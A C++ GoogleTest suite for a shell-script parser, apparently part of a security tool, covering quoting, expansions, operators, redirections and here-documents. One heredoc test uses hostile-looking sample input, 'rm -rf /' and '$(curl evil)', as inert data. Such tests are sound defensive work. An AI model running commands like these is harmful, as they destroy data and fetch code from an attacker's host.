// Shell parser: words (quoting, escapes, expansions, offsets), operators, redirections, here-documents.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "test_shell_helpers.hpp"

using bulwark::input::shell::parse;
using shell_test::commands;
using shell_test::slice;
using ::testing::ElementsAre;
namespace sh = bulwark::model::shell;

TEST(ShellWords, PlainWordsHaveExactOffsets) {
    std::string_view text = "  echo  hello world";
    sh::Script s = parse(text);
    ASSERT_EQ(s.commands.size(), 1U);
    const sh::Command& c = s.commands[0];
    ASSERT_EQ(c.argv.size(), 3U);
    EXPECT_EQ(c.argv[1].value, "hello");
    EXPECT_EQ(c.argv[1].begin, 8U);
    EXPECT_EQ(c.argv[1].end, 13U);
    EXPECT_FALSE(c.argv[1].quoted);
    EXPECT_FALSE(c.argv[1].dynamic);
    EXPECT_EQ(c.begin, 2U);
    EXPECT_EQ(c.end, 19U);
    EXPECT_TRUE(s.errors.empty());
}

TEST(ShellWords, QuotesAreRemovedAndRangesCoverTheWordAsWritten) {
    std::string_view text = R"(echo 'a b'"c d"e 'it'\''s' "")";
    sh::Script s = parse(text);
    ASSERT_EQ(s.commands.size(), 1U);
    const auto& argv = s.commands[0].argv;
    ASSERT_EQ(argv.size(), 4U);
    EXPECT_EQ(argv[1].value, "a bc de");
    EXPECT_EQ(slice(text, argv[1].begin, argv[1].end), R"('a b'"c d"e)");
    EXPECT_TRUE(argv[1].quoted);
    EXPECT_EQ(argv[2].value, "it's");
    EXPECT_EQ(argv[3].value, "");
    EXPECT_TRUE(argv[3].quoted);
}

TEST(ShellWords, DoubleQuoteEscapesOnlyTheSpecialCharacters) {
    sh::Script s = parse(R"(echo "a\"b\\c\$d\`e\nf")");
    ASSERT_EQ(s.commands.size(), 1U);
    EXPECT_EQ(s.commands[0].argv[1].value, R"(a"b\c$d`e\nf)");
    EXPECT_FALSE(s.commands[0].argv[1].dynamic);
}

TEST(ShellWords, BackslashEscapesAndLineContinuation) {
    std::string_view text = "apt-get install \\\n  -y cu\\\nrl a\\ b \\$HOME";
    sh::Script s = parse(text);
    ASSERT_EQ(s.commands.size(), 1U);
    const auto& argv = s.commands[0].argv;
    ASSERT_EQ(argv.size(), 6U);
    EXPECT_EQ(argv[2].value, "-y");
    EXPECT_EQ(argv[3].value, "curl");
    EXPECT_EQ(slice(text, argv[3].begin, argv[3].end), "cu\\\nrl");
    EXPECT_FALSE(argv[3].quoted);
    EXPECT_EQ(argv[4].value, "a b");
    EXPECT_TRUE(argv[4].quoted);
    EXPECT_EQ(argv[5].value, "$HOME");
    EXPECT_FALSE(argv[5].dynamic);
}

TEST(ShellWords, AnsiCQuoting) {
    sh::Script s = parse(R"(printf $'a\tb\n\x41\101\u00e9\'q')");
    ASSERT_EQ(s.commands.size(), 1U);
    EXPECT_EQ(s.commands[0].argv[1].value, "a\tb\nAA\xc3\xa9'q");
    EXPECT_TRUE(s.commands[0].argv[1].quoted);
    EXPECT_FALSE(s.commands[0].argv[1].dynamic);
}

TEST(ShellWords, ExpansionsAreKeptAsWrittenAndDynamic) {
    sh::Script s = parse(R"sh(echo $HOME ${X:-y} "$(id -u)" $((1+2)) pre${A}post `date` $1 $@ plain)sh");
    ASSERT_GE(s.commands.size(), 1U);
    const auto& argv = s.commands[0].argv;
    ASSERT_EQ(argv.size(), 10U);
    EXPECT_EQ(argv[1].value, "$HOME");
    EXPECT_EQ(argv[2].value, "${X:-y}");
    EXPECT_EQ(argv[3].value, "$(id -u)");
    EXPECT_EQ(argv[4].value, "$((1+2))");
    EXPECT_EQ(argv[5].value, "pre${A}post");
    EXPECT_EQ(argv[6].value, "`date`");
    EXPECT_EQ(argv[7].value, "$1");
    EXPECT_EQ(argv[8].value, "$@");
    for (size_t i = 1; i <= 8; ++i) {
        EXPECT_TRUE(argv[i].dynamic) << argv[i].value;
    }
    EXPECT_FALSE(argv[9].dynamic);
}

TEST(ShellWords, ParameterExpansionWithNestedQuotesAndBraces) {
    sh::Script s = parse(R"(echo "${A:-"}"}" ${B//\}/x} done)");
    ASSERT_EQ(s.commands.size(), 1U);
    const auto& argv = s.commands[0].argv;
    ASSERT_EQ(argv.size(), 4U);
    EXPECT_EQ(argv[1].value, R"(${A:-"}"})");
    EXPECT_EQ(argv[2].value, R"(${B//\}/x})");
    EXPECT_EQ(argv[3].value, "done");
}

TEST(ShellWords, GlobsTildeAndBracesAreDynamic) {
    sh::Script s = parse("rm -rf /var/lib/apt/lists/* ~/x file{,.bak} '*' [ a{b} x]");
    ASSERT_EQ(s.commands.size(), 1U);
    const auto& argv = s.commands[0].argv;
    ASSERT_EQ(argv.size(), 9U);
    EXPECT_TRUE(argv[2].dynamic);   // glob
    EXPECT_TRUE(argv[3].dynamic);   // tilde
    EXPECT_TRUE(argv[4].dynamic);   // brace expansion
    EXPECT_FALSE(argv[5].dynamic);  // quoted star
    EXPECT_FALSE(argv[6].dynamic);  // lone [
    EXPECT_FALSE(argv[7].dynamic);  // braces without , or ..
}

TEST(ShellWords, AssignmentsBeforeTheCommandName) {
    sh::Script s = parse("A=1 B+=2 C[0]=x D=(1 2 \"3 4\") env E=5 run");
    ASSERT_EQ(s.commands.size(), 1U);
    const sh::Command& c = s.commands[0];
    ASSERT_EQ(c.assignments.size(), 4U);
    EXPECT_EQ(c.assignments[0].value, "A=1");
    EXPECT_EQ(c.assignments[3].value, "D=(1 2 \"3 4\")");
    EXPECT_EQ(shell_test::joined(c), "env E=5 run");
}

TEST(ShellWords, QuotedAssignmentIsAWord) {
    sh::Script s = parse("\"A=1\" x");
    ASSERT_EQ(s.commands.size(), 1U);
    EXPECT_TRUE(s.commands[0].assignments.empty());
    EXPECT_EQ(s.commands[0].argv[0].value, "A=1");
}

TEST(ShellWords, OnlyAssignments) {
    sh::Script s = parse("export A=1; B=2");
    ASSERT_EQ(s.commands.size(), 2U);
    EXPECT_EQ(shell_test::joined(s.commands[0]), "export A=1");
    EXPECT_TRUE(s.commands[1].argv.empty());
    EXPECT_EQ(s.commands[1].assignments.at(0).value, "B=2");
}

TEST(ShellWords, CommentsStartAtWordStartOnly) {
    EXPECT_THAT(commands("echo a#b # comment ; not a command\necho c"), ElementsAre("echo a#b", "echo c"));
    EXPECT_THAT(commands("# only a comment"), ElementsAre());
}

TEST(ShellOperators, ConnectorsBetweenCommands) {
    sh::Script s = parse("a && b || c; d & e | f |& g\nh");
    ASSERT_THAT(commands(s), ElementsAre("a", "b", "c", "d", "e", "f", "g", "h"));
    EXPECT_EQ(s.commands[0].next, sh::Connector::and_if);
    EXPECT_EQ(s.commands[1].next, sh::Connector::or_if);
    EXPECT_EQ(s.commands[2].next, sh::Connector::seq);
    EXPECT_EQ(s.commands[3].next, sh::Connector::background);
    EXPECT_EQ(s.commands[4].next, sh::Connector::pipe);
    EXPECT_EQ(s.commands[5].next, sh::Connector::pipe);
    EXPECT_EQ(s.commands[6].next, sh::Connector::seq);  // newline
    EXPECT_EQ(s.commands[7].next, sh::Connector::none);
}

TEST(ShellOperators, TrailingSeparatorLeavesTheLastCommandUnjoined) {
    sh::Script s = parse("a;\n");
    ASSERT_EQ(s.commands.size(), 1U);
    EXPECT_EQ(s.commands[0].next, sh::Connector::none);
    sh::Script bg = parse("a &");
    EXPECT_EQ(bg.commands.at(0).next, sh::Connector::background);
}

TEST(ShellOperators, OperatorsNeedNoSpaces) {
    EXPECT_THAT(commands("a&&b||c;d|e"), ElementsAre("a", "b", "c", "d", "e"));
}

TEST(ShellOperators, ContinuationAfterOperatorsAndNewlines) {
    EXPECT_THAT(commands("a &&\n\n b ||\n c |\n d"), ElementsAre("a", "b", "c", "d"));
}

TEST(ShellRedirects, OperatorsWithFdNumbersAndTargets) {
    std::string_view text = "cmd >out 2>>err <in 3<>rw 2>&1 &>all &>>more >|clob <&0 <<<'here str' arg";
    sh::Script s = parse(text);
    ASSERT_EQ(s.commands.size(), 1U);
    const sh::Command& c = s.commands[0];
    EXPECT_EQ(shell_test::joined(c), "cmd arg");
    ASSERT_EQ(c.redirects.size(), 10U);
    std::vector<std::string> ops;
    std::vector<std::string> targets;
    for (const sh::Redirect& r : c.redirects) {
        ops.push_back(r.op);
        targets.push_back(r.target.value);
    }
    EXPECT_THAT(ops, ElementsAre(">", "2>>", "<", "3<>", "2>&", "&>", "&>>", ">|", "<&", "<<<"));
    EXPECT_THAT(targets, ElementsAre("out", "err", "in", "rw", "1", "all", "more", "clob", "0", "here str"));
    EXPECT_EQ(c.end, text.size());
}

TEST(ShellRedirects, RedirectionBeforeTheCommandAndDigitsThatAreWords) {
    sh::Script s = parse(">/dev/null 2>&1 echo 12 3");
    ASSERT_EQ(s.commands.size(), 1U);
    EXPECT_EQ(shell_test::joined(s.commands[0]), "echo 12 3");
    EXPECT_EQ(s.commands[0].redirects.size(), 2U);
    EXPECT_EQ(s.commands[0].begin, 0U);
}

TEST(ShellRedirects, MissingTargetIsAnError) {
    sh::Script s = parse("echo >");
    ASSERT_EQ(s.commands.size(), 1U);
    ASSERT_EQ(s.errors.size(), 1U);
    EXPECT_EQ(s.errors[0].offset, 5U);
}

TEST(ShellHeredoc, BodyIsSkippedAndRecorded) {
    std::string_view text = "cat <<EOF > /etc/x\nrm -rf /\n$(curl evil)\nEOF\necho after";
    sh::Script s = parse(text);
    EXPECT_THAT(commands(s), ElementsAre("cat", "echo after"));
    ASSERT_EQ(s.heredocs.size(), 1U);
    const sh::Heredoc& h = s.heredocs[0];
    EXPECT_EQ(h.delimiter, "EOF");
    EXPECT_EQ(h.body, "rm -rf /\n$(curl evil)\n");
    EXPECT_EQ(slice(text, h.begin, h.end), "rm -rf /\n$(curl evil)\n");
    EXPECT_FALSE(h.quoted);
    ASSERT_EQ(s.commands[0].redirects.size(), 2U);
    EXPECT_EQ(s.commands[0].redirects[0].op, "<<");
    EXPECT_EQ(s.commands[0].redirects[0].heredoc, 0);
    EXPECT_EQ(s.commands[0].redirects[1].heredoc, -1);
    EXPECT_TRUE(s.errors.empty());
}

TEST(ShellHeredoc, QuotedDelimiterTabStrippingAndTwoOnOneLine) {
    std::string_view text = "cat <<-'END' | tee a <<\"X\" && echo ok\n\tone\n\tEND\ntwo\nX\necho next";
    sh::Script s = parse(text);
    EXPECT_THAT(commands(s), ElementsAre("cat", "tee a", "echo ok", "echo next"));
    ASSERT_EQ(s.heredocs.size(), 2U);
    EXPECT_EQ(s.heredocs[0].delimiter, "END");
    EXPECT_TRUE(s.heredocs[0].quoted);
    EXPECT_TRUE(s.heredocs[0].strip_tabs);
    EXPECT_EQ(s.heredocs[0].body, "one\n");
    EXPECT_EQ(s.heredocs[1].delimiter, "X");
    EXPECT_EQ(s.heredocs[1].body, "two\n");
    EXPECT_TRUE(s.errors.empty());
}

TEST(ShellHeredoc, UnterminatedBodyIsAnErrorAndEndsTheScript) {
    sh::Script s = parse("cat <<EOF\nline\necho not a command");
    EXPECT_THAT(commands(s), ElementsAre("cat"));
    ASSERT_EQ(s.errors.size(), 1U);
    EXPECT_EQ(s.errors[0].offset, 4U);
    EXPECT_EQ(s.errors[0].message, "here-document not terminated (wanted 'EOF')");
}

TEST(ShellHeredoc, InsideACommandSubstitution) {
    sh::Script s = parse("x=$(cat <<EOF\nnot; a command\nEOF\n); echo $x");
    EXPECT_THAT(commands(s), ElementsAre("", "cat", "echo $x"));
    EXPECT_TRUE(s.errors.empty());
}

TEST(ShellErrors, UnterminatedQuotesKeepTheCommands) {
    sh::Script s = parse("apt-get update && echo 'oops");
    EXPECT_THAT(commands(s), ElementsAre("apt-get update", "echo oops"));
    ASSERT_EQ(s.errors.size(), 1U);
    EXPECT_EQ(s.errors[0].offset, 23U);
    EXPECT_EQ(s.errors[0].message, "unterminated single quote");

    sh::Script d = parse("echo \"abc");
    ASSERT_EQ(d.errors.size(), 1U);
    EXPECT_EQ(d.errors[0].message, "unterminated double quote");
    EXPECT_EQ(d.commands.at(0).argv.at(1).value, "abc");
}

TEST(ShellErrors, EmptyAndBlankInput) {
    EXPECT_TRUE(parse("").commands.empty());
    EXPECT_TRUE(parse(" \t\n\n ").commands.empty());
    EXPECT_TRUE(parse("\\").errors.empty());
}
